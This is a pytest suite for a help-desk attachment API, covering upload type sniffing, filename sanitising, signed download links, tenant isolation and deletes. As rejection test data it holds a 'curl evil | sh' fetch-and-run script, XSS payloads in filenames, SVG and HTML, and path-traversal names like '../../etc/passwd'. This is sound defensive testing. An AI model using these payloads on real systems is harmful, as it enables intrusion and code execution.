"""Attachments through HTTP: upload, content typing, names, signed downloads, visibility,
tenant isolation, deletes; and the storage backends (local directory, S3 via moto).

Link errors, as decided in `tickets/attachments.py::access_download`: forged or malformed →
404 `download_link_invalid`; another organization's link → 404 (as if missing); another user's
link in the same organization → 403 `download_link_not_yours`; the caller's own expired link →
403 `download_link_expired`; a file the caller can no longer see → 404.
"""

from __future__ import annotations

import hashlib
import io
import os
import socket
import struct
import time
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from unittest import mock
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from itsdangerous.timed import TimestampSigner
from sqlalchemy import select, update

from servicedesk.core import filetypes
from servicedesk.core.runtime import Runtime
from servicedesk.core.storage import (
    LocalStorage,
    S3Storage,
    StorageError,
    StorageKeyNotFound,
    check_key,
    new_key,
)
from servicedesk.models import Attachment, Organization, Role, Ticket
from servicedesk.tickets import attachments
from servicedesk.tickets.attachments_api import content_disposition, links_of
from tests.conftest import REQUIRE_SERVICES, Session, client_for
from tests.ticket_helpers import TICKETS, Desk, build_desk, problem
from tests.ticket_helpers import desk_fixture as desk_fixture  # the `desk` fixture

DOWNLOAD = "/api/v1/attachments/download"
MiB = 1024 * 1024


# Sample files ------------------------------------------------------------------------------


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
WEBP = (
    b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00"
    b"/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
)
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
CSV = "id,name,amount\n1,Renée,12.50\n2,Zoë,3\n".encode()
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def office(kind: str, *, macro: bool = False, content_types: bool = True) -> bytes:
    folder, main = {
        "docx": ("word", "word/document.xml"),
        "xlsx": ("xl", "xl/workbook.xml"),
        "pptx": ("ppt", "ppt/presentation.xml"),
    }[kind]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        if content_types:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main, f"<{folder}/>")
        if macro:
            archive.writestr(f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return buf.getvalue()


# Fixtures and helpers ----------------------------------------------------------------------


@pytest.fixture(autouse=True)
def files_dir(runtime: Runtime, tmp_path: Path) -> Iterator[Path]:
    """Each test stores into its own directory (the app's runtime is shared by the session)."""
    original = runtime.storage
    root = tmp_path / "files"
    runtime.storage = LocalStorage(root)
    yield root
    runtime.storage = original


@pytest.fixture
async def ticket(desk: Desk) -> dict[str, Any]:
    return await desk.file()


async def upload(
    client: httpx.AsyncClient,
    who: Session,
    ticket_id: str,
    filename: str,
    data: bytes,
    content_type: str = "application/octet-stream",
    *,
    headers: dict[str, str] | None = None,
    **form: str,
) -> httpx.Response:
    return await client.post(
        f"{TICKETS}/{ticket_id}/attachments",
        files={"file": (filename, data, content_type)},
        data=form,
        headers={**who.headers, **(headers or {})},
    )


async def uploaded(
    client: httpx.AsyncClient, who: Session, ticket_id: str, filename: str, data: bytes, **form: str
) -> dict[str, Any]:
    r = await upload(client, who, ticket_id, filename, data, **form)
    assert r.status_code == 201, r.text
    return r.json()  # type: ignore[no-any-return]


async def listing(client: httpx.AsyncClient, who: Session, ticket_id: str) -> list[dict[str, Any]]:
    r = await client.get(f"{TICKETS}/{ticket_id}/attachments", headers=who.headers)
    assert r.status_code == 200, r.text
    return r.json()  # type: ignore[no-any-return]


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def inside(path: Path, root: Path) -> bool:
    return path.resolve().is_relative_to(root.resolve())


def token_of(item: dict[str, Any]) -> str:
    return parse_qs(urlsplit(item["download_url"]).query)["token"][0]


async def download(client: httpx.AsyncClient, who: Session, token: str) -> httpx.Response:
    return await client.get(DOWNLOAD, params={"token": token}, headers=who.headers)


def forge(
    runtime: Runtime, org: Organization, attachment_id: str | uuid.UUID, user_id: uuid.UUID
) -> str:
    """A genuine token for any triple (what a leaked or guessed id would at best give)."""
    token, _ = links_of(runtime).issue(
        organization_id=org.id,
        attachment_id=uuid.UUID(str(attachment_id)),
        user_id=user_id,
        lifetime_seconds=runtime.settings.download_link_seconds,
    )
    return token


async def stored_row(runtime: Runtime, org: Organization, attachment_id: str) -> Attachment:
    async with runtime.db.tenant_session(org.id) as session:
        row = await session.get(Attachment, uuid.UUID(attachment_id))
        assert row is not None
        return row


async def audit_actions(desk: Desk, record_id: str) -> list[str]:
    r = await desk.client.get(
        "/api/v1/audit-log",
        params={"table": "attachments", "record_id": record_id},
        headers=desk.admin.headers,
    )
    assert r.status_code == 200, r.text
    return [e["action"] for e in r.json()["items"]]


# Happy paths -------------------------------------------------------------------------------


async def test_upload_list_download_with_headers(
    desk: Desk, ticket: dict[str, Any], files_dir: Path
) -> None:
    data = png_bytes()
    r = await upload(
        desk.client, desk.requester, ticket["id"], "screen shot.png", data, "text/html"
    )
    assert r.status_code == 201, r.text
    item = r.json()
    assert item["filename"] == "screen shot.png"
    assert item["content_type"] == "image/png"  # sniffed; the client's text/html is ignored
    assert item["size"] == len(data)
    assert item["sha256"] == hashlib.sha256(data).hexdigest()
    assert item["is_internal"] is False and item["comment_id"] is None
    assert item["uploader_id"] == str(desk.requester.user.id)
    assert item["download_url"].startswith(f"/t/{desk.org.slug}{DOWNLOAD}?token=")

    row = await stored_row(desk.runtime, desk.org, item["id"])
    assert row.sha256 == hashlib.sha256(data).hexdigest()
    assert "screen" not in row.storage_key and "png" not in row.storage_key
    assert row.storage_key.startswith(f"{desk.org.id}/")
    stored = files_dir / row.storage_key
    assert stored.read_bytes() == data
    assert stored.stat().st_mode & 0o077 == 0
    check_key(row.storage_key)

    assert [a["id"] for a in await listing(desk.client, desk.agent, ticket["id"])] == [item["id"]]
    mine = (await listing(desk.client, desk.requester, ticket["id"]))[0]

    # The link as given works from a browser path too (the tenant is in the URL).
    r = await desk.client.get(
        mine["download_url"], headers={"Authorization": desk.requester.headers["Authorization"]}
    )
    assert r.status_code == 200, r.text
    assert r.content == data
    assert r.headers["content-type"] == "image/png"
    assert r.headers["content-disposition"] == (
        "attachment; filename=\"screen shot.png\"; filename*=UTF-8''screen%20shot.png"
    )
    assert r.headers["x-content-type-options"].split(",")[0].strip() == "nosniff"
    assert r.headers["cache-control"] == "private, no-store"
    assert r.headers["content-length"] == str(len(data))
    assert "sandbox" in r.headers["content-security-policy"]
    assert hashlib.sha256(r.content).hexdigest() == item["sha256"]

    assert await audit_actions(desk, item["id"]) == ["attachment.added"]


@pytest.mark.parametrize(
    ("name", "data", "mime", "final_name"),
    [
        ("photo.jpg", JPEG, "image/jpeg", "photo.jpg"),
        ("anim.gif", GIF, "image/gif", "anim.gif"),
        ("pic.webp", WEBP, "image/webp", "pic.webp"),
        ("report", PDF, "application/pdf", "report.pdf"),
        ("export.csv", CSV, "text/plain; charset=utf-8", "export.csv"),
        (
            "app.log",
            b"2026-01-01 INFO started\n\x1b[31mERROR\x1b[0m x\n",
            "text/plain; charset=utf-8",
            "app.log",
        ),
        ("letter.docx", office("docx"), filetypes.DOCX.mime, "letter.docx"),
        ("sheet.xlsx", office("xlsx"), filetypes.XLSX.mime, "sheet.xlsx"),
        ("deck.pptx", office("pptx"), filetypes.PPTX.mime, "deck.pptx"),
        # A name that does not fit the content gets the right extension appended.
        ("notes.html", b"just words\n", "text/plain; charset=utf-8", "notes.html.txt"),
        ("image.pdf", png_bytes(), "image/png", "image.pdf.png"),
    ],
)
async def test_allowed_types(
    desk: Desk, ticket: dict[str, Any], name: str, data: bytes, mime: str, final_name: str
) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], name, data)
    assert (item["content_type"], item["filename"]) == (mime, final_name)
    r = await download(desk.client, desk.requester, token_of(item))
    assert r.status_code == 200 and r.content == data
    assert r.headers["content-type"] == mime


async def test_upload_to_comment_inherits_internal(desk: Desk, ticket: dict[str, Any]) -> None:
    public = await desk.comment(ticket, "Here is the error I see", desk.requester)
    note = await desk.comment(
        ticket, "Looks like the disk; see my capture", desk.agent, internal=True
    )

    on_public = await uploaded(
        desk.client, desk.requester, ticket["id"], "err.png", png_bytes(), comment_id=public["id"]
    )
    assert on_public["comment_id"] == public["id"] and on_public["is_internal"] is False
    on_note = await uploaded(
        desk.client,
        desk.agent,
        ticket["id"],
        "smart.txt",
        b"SMART: failing\n",
        comment_id=note["id"],
    )
    assert on_note["comment_id"] == note["id"] and on_note["is_internal"] is True

    # Requester: the internal file is neither listed nor downloadable, even with a valid link.
    assert [a["id"] for a in await listing(desk.client, desk.requester, ticket["id"])] == [
        on_public["id"]
    ]
    leaked = forge(desk.runtime, desk.org, on_note["id"], desk.requester.user.id)
    problem(await download(desk.client, desk.requester, leaked), 404)
    # Someone else's link for it is not theirs either.
    problem(
        await download(desk.client, desk.requester, token_of(on_note)),
        403,
        "download_link_not_yours",
    )

    # Manager reads everything, but cannot add files.
    seen = await listing(desk.client, desk.manager, ticket["id"])
    assert {a["id"] for a in seen} == {on_public["id"], on_note["id"]}
    internal = next(a for a in seen if a["is_internal"])
    r = await download(desk.client, desk.manager, token_of(internal))
    assert r.status_code == 200 and r.content == b"SMART: failing\n"
    problem(
        await upload(desk.client, desk.manager, ticket["id"], "m.png", png_bytes()),
        403,
        "read_only",
    )


async def test_comment_attachment_rules(desk: Desk, ticket: dict[str, Any]) -> None:
    mine = await desk.comment(ticket, "A reply from the requester", desk.requester)
    # Only the author attaches to a comment.
    r = await upload(
        desk.client, desk.agent, ticket["id"], "x.png", png_bytes(), comment_id=mine["id"]
    )
    problem(r, 403, "not_author")
    # A comment of another ticket is not found on this one.
    other = await desk.file()
    theirs = await desk.comment(other, "On the other ticket", desk.requester)
    r = await upload(
        desk.client, desk.requester, ticket["id"], "x.png", png_bytes(), comment_id=theirs["id"]
    )
    problem(r, 404)
    # A requester cannot reach an internal note to attach to it.
    note = await desk.comment(ticket, "internal", desk.agent, internal=True)
    r = await upload(
        desk.client, desk.requester, ticket["id"], "x.png", png_bytes(), comment_id=note["id"]
    )
    problem(r, 404)
    r = await upload(
        desk.client, desk.requester, ticket["id"], "x.png", png_bytes(), comment_id="nope"
    )
    problem(r, 422, "validation_error")
    # Past the edit window the comment is closed for files.
    await desk.sql(
        "UPDATE comments SET created_at = created_at - interval '1 day' WHERE id = :id",
        id=uuid.UUID(mine["id"]),
    )
    r = await upload(
        desk.client, desk.requester, ticket["id"], "x.png", png_bytes(), comment_id=mine["id"]
    )
    problem(r, 422, "edit_window_passed")
    # Deleting a comment hides its files.
    fresh = await desk.comment(ticket, "Another one", desk.requester)
    item = await uploaded(
        desk.client, desk.requester, ticket["id"], "y.png", png_bytes(), comment_id=fresh["id"]
    )
    r = await desk.client.delete(
        f"{TICKETS}/{ticket['id']}/comments/{fresh['id']}", headers=desk.requester.headers
    )
    assert r.status_code == 204, r.text
    assert item["id"] not in [a["id"] for a in await listing(desk.client, desk.agent, ticket["id"])]
    problem(await download(desk.client, desk.requester, token_of(item)), 404)


async def test_closed_ticket_takes_internal_files_only(desk: Desk, ticket: dict[str, Any]) -> None:
    note = await desk.comment(ticket, "note before closing", desk.agent, internal=True)
    async with desk.runtime.db.tenant_session(desk.org.id) as session:
        await session.execute(
            update(Ticket).where(Ticket.id == uuid.UUID(ticket["id"])).values(status="closed")
        )
    problem(
        await upload(desk.client, desk.requester, ticket["id"], "a.png", png_bytes()),
        422,
        "ticket_closed",
    )
    await uploaded(
        desk.client, desk.agent, ticket["id"], "a.png", png_bytes(), comment_id=note["id"]
    )


async def test_idempotent_upload(desk: Desk, ticket: dict[str, Any], files_dir: Path) -> None:
    key = {"Idempotency-Key": "upload-1"}
    first = await upload(
        desk.client, desk.requester, ticket["id"], "a.png", png_bytes(), headers=key
    )
    assert first.status_code == 201, first.text
    again = await upload(
        desk.client, desk.requester, ticket["id"], "a.png", png_bytes(), headers=key
    )
    assert again.status_code == 201, again.text
    assert again.headers["idempotent-replayed"] == "true"
    assert again.json()["id"] == first.json()["id"]
    assert len(await listing(desk.client, desk.requester, ticket["id"])) == 1
    assert len(stored_files(files_dir)) == 1
    r = await download(desk.client, desk.requester, token_of(again.json()))
    assert r.status_code == 200
    other = await upload(
        desk.client, desk.requester, ticket["id"], "b.png", png_bytes(3, 3), headers=key
    )
    problem(other, 422, "idempotency_key_reused")


async def test_cookie_authenticated_download(
    desk: Desk, ticket: dict[str, Any], app: object
) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], "a.pdf", PDF)
    async with client_for(app, cookies={"sd_access": desk.requester.access_token}) as browser:
        r = await browser.get(item["download_url"])
        assert r.status_code == 200 and r.content == PDF
        assert r.headers["content-disposition"].startswith("attachment;")
        # Unsafe cookie requests still need the CSRF token.
        r = await browser.post(
            f"/t/{desk.org.slug}{TICKETS}/{ticket['id']}/attachments",
            files={"file": ("b.pdf", PDF, "application/pdf")},
        )
        problem(r, 403, "csrf_failed")


# Bad input ---------------------------------------------------------------------------------


async def test_xss_in_file_name_is_stored_and_served_harmless(
    desk: Desk, ticket: dict[str, Any]
) -> None:
    name = '"><img src=x onerror=alert(1)>.png'
    item = await uploaded(desk.client, desk.requester, ticket["id"], name, png_bytes())
    assert not set(item["filename"]) & set('<>"'), item["filename"]
    assert item["filename"].endswith("_img src=x onerror=alert(1)_.png"), item["filename"]
    listed = (await listing(desk.client, desk.agent, ticket["id"]))[0]
    assert listed["filename"] == item["filename"]
    r = await download(desk.client, desk.agent, token_of(listed))
    disposition = r.headers["content-disposition"]
    assert disposition.count('"') == 2 and "<" not in disposition and ">" not in disposition

    script = await uploaded(
        desk.client, desk.requester, ticket["id"], "<script>alert(1)</script>.txt", b"hello\n"
    )
    assert "<" not in script["filename"] and ">" not in script["filename"]


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("..\\..\\windows\\system32\\drivers\\etc\\hosts", "hosts.txt"),
        ("/abs/path/notes.txt", "notes.txt"),
        ("....txt", "txt.txt"),
        ("..", "file.txt"),
    ],
)
async def test_path_traversal_in_file_name(
    desk: Desk, ticket: dict[str, Any], files_dir: Path, raw: str, expected: str
) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], raw, b"root:x:0:0\n")
    assert item["filename"] == expected
    row = await stored_row(desk.runtime, desk.org, item["id"])
    assert inside(files_dir / row.storage_key, files_dir)
    assert not stored_files(files_dir.parent / "etc")


async def test_nul_and_control_bytes_in_file_name(desk: Desk, ticket: dict[str, Any]) -> None:
    """Raw bytes on the wire (httpx would percent-encode them)."""
    boundary = "sd-test-boundary-7f3a"
    name = b"inv\x00oice\x01\x1b[31m\t\xe2\x80\xaeexe.pdf"
    body = (
        f"--{boundary}\r\n".encode()
        + b'Content-Disposition: form-data; name="file"; filename="'
        + name
        + b'"\r\nContent-Type: application/pdf\r\n\r\n'
        + PDF
        + f"\r\n--{boundary}--\r\n".encode()
    )
    r = await desk.client.post(
        f"{TICKETS}/{ticket['id']}/attachments",
        content=body,
        headers={
            **desk.requester.headers,
            "Content-Type": f"multipart/form-data; boundary={boundary}",
        },
    )
    assert r.status_code == 201, r.text
    filename = r.json()["filename"]
    assert filename == "invoice[31m exe.pdf"
    assert all(c.isprintable() for c in filename)


@pytest.mark.parametrize(
    ("name", "data", "claimed"),
    [
        ("invoice.pdf", EXE, "application/pdf"),  # an executable renamed .pdf
        ("invoice.pdf", ELF, "application/pdf"),
        ("readme.txt", b"#!/bin/sh\ncurl evil | sh\n", "text/plain"),
        ("chart.svg", SVG, "image/svg+xml"),
        ("chart.png", SVG, "image/png"),
        ("page.html", HTML, "text/html"),
        ("page.txt", HTML, "text/plain"),
        ("note.txt", b"hi <img src=x onerror=alert(1)>", "text/plain"),
        ("data.bin", b"\x00\x01\x02\x03binary", "application/octet-stream"),
        ("latin1.txt", b"caf\xe9\n", "text/plain"),
        ("archive.zip", office("docx", content_types=False), "application/zip"),
        ("macro.docx", office("docx", macro=True), filetypes.DOCX.mime),
    ],
)
async def test_refused_types(
    desk: Desk, ticket: dict[str, Any], name: str, data: bytes, claimed: str, files_dir: Path
) -> None:
    r = await upload(desk.client, desk.requester, ticket["id"], name, data, claimed)
    problem(r, 422, "unsupported_file_type")
    assert stored_files(files_dir) == []


async def test_empty_file(desk: Desk, ticket: dict[str, Any]) -> None:
    problem(
        await upload(desk.client, desk.requester, ticket["id"], "empty.txt", b""), 422, "empty_file"
    )


async def test_missing_file_part(desk: Desk, ticket: dict[str, Any]) -> None:
    r = await desk.client.post(
        f"{TICKETS}/{ticket['id']}/attachments",
        data={"file": "not a file"},
        headers=desk.requester.headers,
    )
    problem(r, 422, "validation_error")
    r = await desk.client.post(
        f"{TICKETS}/{ticket['id']}/attachments", json={"file": "x"}, headers=desk.requester.headers
    )
    problem(r, 422, "validation_error")


async def test_eleven_megabytes_is_too_large(desk: Desk, ticket: dict[str, Any]) -> None:
    assert desk.runtime.settings.max_upload_bytes == 10 * MiB
    r = await upload(desk.client, desk.requester, ticket["id"], "big.txt", b"a" * (11 * 10**6))
    body = problem(r, 413, "payload_too_large")
    assert body["max_bytes"] == 10 * MiB


async def test_limit_is_exact_and_configurable(
    desk: Desk, ticket: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(desk.runtime.settings, "max_upload_bytes", 1000)
    await uploaded(desk.client, desk.requester, ticket["id"], "ok.txt", b"a" * 1000)
    problem(
        await upload(desk.client, desk.requester, ticket["id"], "no.txt", b"a" * 1001),
        413,
        "payload_too_large",
    )


async def test_limit_enforced_while_reading_despite_content_length(
    desk: Desk, ticket: dict[str, Any], app: Any
) -> None:
    """A body that lies about its length is cut off once past the limit, not read to its end."""
    boundary = "sd-lying-boundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    chunk = b"a" * MiB
    total_chunks = 40
    pulled = 0
    messages = [head, *([chunk] * total_chunks)]

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if pulled < len(messages):
            body = messages[pulled]
            pulled += 1
            return {"type": "http.request", "body": body, "more_body": True}
        return {"type": "http.disconnect"}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    path = f"{TICKETS}/{ticket['id']}/attachments"
    headers = {
        **desk.requester.headers,
        "content-type": f"multipart/form-data; boundary={boundary}",
    }
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()]
        + [(b"content-length", b"1024"), (b"host", b"testserver")],
        "client": ("10.99.0.1", 40000),
        "server": ("testserver", 80),
        "state": {},
    }
    await app(scope, receive, send)
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 413
    assert pulled <= 12, f"read {pulled} MiB of a 40 MiB body"


async def test_content_length_over_limit_refused_before_reading(
    desk: Desk, ticket: dict[str, Any]
) -> None:
    r = await desk.client.post(
        f"{TICKETS}/{ticket['id']}/attachments",
        content=b"x",
        headers={
            **desk.requester.headers,
            "Content-Type": "multipart/form-data; boundary=b",
            "Content-Length": str(50 * MiB),
        },
    )
    problem(r, 413, "payload_too_large")


async def test_anonymous_upload_is_refused_before_the_body(
    desk: Desk, ticket: dict[str, Any]
) -> None:
    r = await desk.client.post(
        f"{TICKETS}/{ticket['id']}/attachments",
        files={"file": ("a.png", png_bytes(), "image/png")},
        headers={"X-Tenant-ID": desk.org.slug},
    )
    problem(r, 401, "not_authenticated")


# Links -------------------------------------------------------------------------------------


async def test_tampered_and_forged_links(desk: Desk, ticket: dict[str, Any]) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], "a.png", png_bytes())
    token = token_of(item)
    tampered = token[:-2] + ("AA" if not token.endswith("AA") else "BB")
    problem(await download(desk.client, desk.requester, tampered), 404, "download_link_invalid")
    payload, stamp, signature = token.rsplit(".", 2)
    middle = len(payload) // 2
    flipped = payload[:middle] + ("A" if payload[middle] != "A" else "B") + payload[middle + 1 :]
    for forged in (f"{flipped}.{stamp}.{signature}", f"{payload}.{stamp[::-1]}.{signature}"):
        problem(await download(desk.client, desk.requester, forged), 404, "download_link_invalid")
    other_key = attachments.DownloadLinks("some-other-secret").issue(
        organization_id=desk.org.id,
        attachment_id=uuid.UUID(item["id"]),
        user_id=desk.requester.user.id,
        lifetime_seconds=300,
    )[0]
    problem(await download(desk.client, desk.requester, other_key), 404, "download_link_invalid")
    problem(await download(desk.client, desk.requester, "x" * 40), 404, "download_link_invalid")
    r = await desk.client.get(
        DOWNLOAD, params={"token": token}, headers={"X-Tenant-ID": desk.org.slug}
    )
    problem(r, 401)


async def test_expired_link(desk: Desk, ticket: dict[str, Any]) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], "a.png", png_bytes())
    lifetime = desk.runtime.settings.download_link_seconds
    assert lifetime == 300
    an_hour_ago = int(time.time()) - 3600
    with mock.patch.object(TimestampSigner, "get_timestamp", return_value=an_hour_ago):
        old = forge(desk.runtime, desk.org, item["id"], desk.requester.user.id)
        old_for_agent = forge(desk.runtime, desk.org, item["id"], desk.agent.user.id)
    problem(await download(desk.client, desk.requester, old), 403, "download_link_expired")
    problem(
        await download(desk.client, desk.requester, old_for_agent), 403, "download_link_not_yours"
    )
    # A fresh listing gives a working link again.
    fresh = (await listing(desk.client, desk.requester, ticket["id"]))[0]
    assert (await download(desk.client, desk.requester, token_of(fresh))).status_code == 200


async def test_link_lifetime_setting(
    desk: Desk, ticket: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], "a.png", png_bytes())
    with mock.patch.object(TimestampSigner, "get_timestamp", return_value=int(time.time()) - 30):
        token = forge(desk.runtime, desk.org, item["id"], desk.requester.user.id)
    assert (await download(desk.client, desk.requester, token)).status_code == 200
    monkeypatch.setattr(desk.runtime.settings, "download_link_seconds", 10)
    problem(await download(desk.client, desk.requester, token), 403, "download_link_expired")
    fresh = (await listing(desk.client, desk.requester, ticket["id"]))[0]
    expires = fresh["download_expires_at"]
    assert 0 < datetime.fromisoformat(expires).timestamp() - time.time() <= 11


async def test_link_of_another_user_same_tenant(desk: Desk, ticket: dict[str, Any]) -> None:
    item = await uploaded(desk.client, desk.requester, ticket["id"], "a.png", png_bytes())
    # An agent who can see the ticket still needs their own link.
    problem(await download(desk.client, desk.agent, token_of(item)), 403, "download_link_not_yours")
    # Another requester, who cannot see the ticket, gets the same answer and learns nothing more.
    problem(
        await download(desk.client, desk.requester2, token_of(item)), 403, "download_link_not_yours"
    )
    # ... and with a link made out to them, the ticket check answers 404.
    theirs = forge(desk.runtime, desk.org, item["id"], desk.requester2.user.id)
    problem(await download(desk.client, desk.requester2, theirs), 404)


async def test_download_rechecks_visibility(desk: Desk, ticket: dict[str, Any]) -> None:
    item = await uploaded(desk.client, desk.agent, ticket["id"], "a.png", png_bytes())
    token = token_of(item)
    assert (await download(desk.client, desk.agent, token)).status_code == 200
    # The organization restricts agents to their departments; this agent has none.
    await desk.set_settings(agents_restricted_to_departments=True)
    problem(await download(desk.client, desk.agent, token), 404)


# Tenant isolation --------------------------------------------------------------------------


@pytest.fixture
async def other_desk(
    client: httpx.AsyncClient, runtime: Runtime, other_org: Organization, make_user: Any, login: Any
) -> Desk:
    other_admin = await login(await make_user(other_org, Role.ADMIN), other_org)
    return await build_desk(client, runtime, other_org, other_admin, make_user, login)


async def test_tenant_isolation(desk: Desk, other_desk: Desk, ticket: dict[str, Any]) -> None:
    their_ticket = await other_desk.file()
    theirs = await uploaded(
        other_desk.client, other_desk.requester, their_ticket["id"], "b.png", png_bytes()
    )
    a_admin = desk.admin

    problem(
        await desk.client.get(
            f"{TICKETS}/{their_ticket['id']}/attachments", headers=a_admin.headers
        ),
        404,
    )
    problem(await upload(desk.client, a_admin, their_ticket["id"], "x.png", png_bytes()), 404)
    for path in (
        f"{TICKETS}/{their_ticket['id']}/attachments/{theirs['id']}",
        f"{TICKETS}/{ticket['id']}/attachments/{theirs['id']}",
    ):
        problem(await desk.client.delete(path, headers=a_admin.headers), 404)
    # Their link, presented in org A by A's admin: as if it did not exist.
    problem(await download(desk.client, a_admin, token_of(theirs)), 404)
    # A genuine A-token naming B's attachment: RLS and the filters find nothing.
    problem(
        await download(
            desk.client, a_admin, forge(desk.runtime, desk.org, theirs["id"], a_admin.user.id)
        ),
        404,
    )
    # B's user with A's tenant header is not signed in there.
    r = await desk.client.get(
        DOWNLOAD,
        params={"token": token_of(theirs)},
        headers={**other_desk.requester.headers, "X-Tenant-ID": desk.org.slug},
    )
    problem(r, 401)
    # B's own link keeps working in B.
    assert (
        await download(other_desk.client, other_desk.requester, token_of(theirs))
    ).status_code == 200


# Delete ------------------------------------------------------------------------------------


async def test_delete_by_uploader_or_admin(
    desk: Desk, ticket: dict[str, Any], files_dir: Path
) -> None:
    first = await uploaded(desk.client, desk.requester, ticket["id"], "a.png", png_bytes())
    second = await uploaded(desk.client, desk.requester, ticket["id"], "b.pdf", PDF)
    path = f"{TICKETS}/{ticket['id']}/attachments"

    problem(
        await desk.client.delete(f"{path}/{first['id']}", headers=desk.agent.headers),
        403,
        "not_uploader",
    )
    problem(await desk.client.delete(f"{path}/{first['id']}", headers=desk.requester2.headers), 404)
    problem(await upload(desk.client, desk.requester2, ticket["id"], "c.png", png_bytes()), 404)
    problem(await desk.client.get(path, headers=desk.requester2.headers), 404)
    r = await desk.client.delete(f"{path}/{first['id']}", headers=desk.requester.headers)
    assert r.status_code == 204, r.text
    r = await desk.client.delete(f"{path}/{second['id']}", headers=desk.admin.headers)
    assert r.status_code == 204, r.text
    problem(await desk.client.delete(f"{path}/{second['id']}", headers=desk.admin.headers), 404)

    assert await listing(desk.client, desk.requester, ticket["id"]) == []
    problem(await download(desk.client, desk.requester, token_of(first)), 404)
    assert await audit_actions(desk, first["id"]) == ["attachment.deleted", "attachment.added"]
    # Soft delete: the row and the body stay (for audit and recovery).
    row = await stored_row(desk.runtime, desk.org, first["id"])
    assert row.deleted_at is not None and (files_dir / row.storage_key).exists()
    async with desk.runtime.db.tenant_session(desk.org.id) as session:
        count = len(
            (
                await session.execute(
                    select(Attachment.id).where(Attachment.ticket_id == uuid.UUID(ticket["id"]))
                )
            ).all()
        )
    assert count == 2


async def test_purge_deletes_files_of_long_deleted_attachments(
    desk: Desk, ticket: dict[str, Any], files_dir: Path
) -> None:
    """The hourly purge removes the file and row of an attachment deleted more than
    SERVICEDESK_ATTACHMENT_PURGE_DAYS ago (itself or with its comment), audits it, and leaves
    recent deletions and live files alone."""
    from servicedesk.core.clock import utc_now
    from servicedesk.core.jobs import registry
    from servicedesk.models import Comment
    from servicedesk.tickets.handlers import purge_deleted_attachments

    assert "tickets.purge_deleted_attachments" in registry.periodics
    path = f"{TICKETS}/{ticket['id']}/attachments"
    old = await uploaded(desk.client, desk.requester, ticket["id"], "old.png", png_bytes())
    recent = await uploaded(desk.client, desk.requester, ticket["id"], "recent.pdf", PDF)
    live = await uploaded(desk.client, desk.requester, ticket["id"], "live.png", png_bytes(3))
    reply = await desk.comment(ticket, "The capture of the error dialog", desk.requester)
    on_reply = await uploaded(
        desk.client, desk.requester, ticket["id"], "cap.png", png_bytes(4), comment_id=reply["id"]
    )
    for item in (old, recent):
        r = await desk.client.delete(f"{path}/{item['id']}", headers=desk.requester.headers)
        assert r.status_code == 204, r.text
    r = await desk.client.delete(
        f"{TICKETS}/{ticket['id']}/comments/{reply['id']}", headers=desk.requester.headers
    )
    assert r.status_code == 204, r.text
    keys = {
        name: (await stored_row(desk.runtime, desk.org, item["id"])).storage_key
        for name, item in (("old", old), ("recent", recent), ("live", live), ("cap", on_reply))
    }
    long_ago = utc_now() - timedelta(days=desk.runtime.settings.attachment_purge_days + 1)
    async with desk.runtime.db.session() as session:
        await session.execute(
            update(Attachment)
            .where(Attachment.id == uuid.UUID(old["id"]))
            .values(deleted_at=long_ago)
        )
        await session.execute(
            update(Comment).where(Comment.id == uuid.UUID(reply["id"])).values(deleted_at=long_ago)
        )

